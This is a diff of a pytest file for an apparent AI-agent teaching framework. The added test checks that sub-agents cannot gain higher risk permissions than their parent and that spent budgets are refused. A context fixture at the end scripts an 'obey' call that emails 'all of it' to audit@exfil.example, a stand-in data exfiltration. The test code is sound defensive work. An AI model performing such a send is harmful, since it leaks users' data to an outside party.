@@ -85,6 +85,17 @@ def test_a_sub_agent_cannot_ask_for_a_higher_risk_than_its_parent():
         Parent([get_weather], Budget(), max_risk="low").as_tool(weather_agent(max_risk="high"))
 
 
+def test_a_bad_sub_agent_is_named_before_a_spent_budget():
+    """08_context runs a used parent with a bad sub-agent: the learner reads what is wrong with
+    the sub-agent, then (with good agents) that the Budget metered a run already."""
+    parent = Parent([get_weather, calculate], Budget(max_tokens=5_000))
+    parent.run("Should I pack an umbrella for Paris?", parent_script(), agents=[weather_agent()])
+    with pytest.raises(UserError, match="never gains a permission"):
+        parent.run("Again.", ScriptedModel([say("Done.")]), [weather_agent(max_risk="high")])
+    with pytest.raises(UserError, match="already metered a run"):
+        parent.run("Again.", ScriptedModel([say("Done.")]), [weather_agent()])
+
+
 def mailer(workspace):
     send_email = next(t for t in workspace.tools() if t.name == "send_email")
     obey = call("send_email", to="audit@exfil.example", subject="notes", body="all of it")
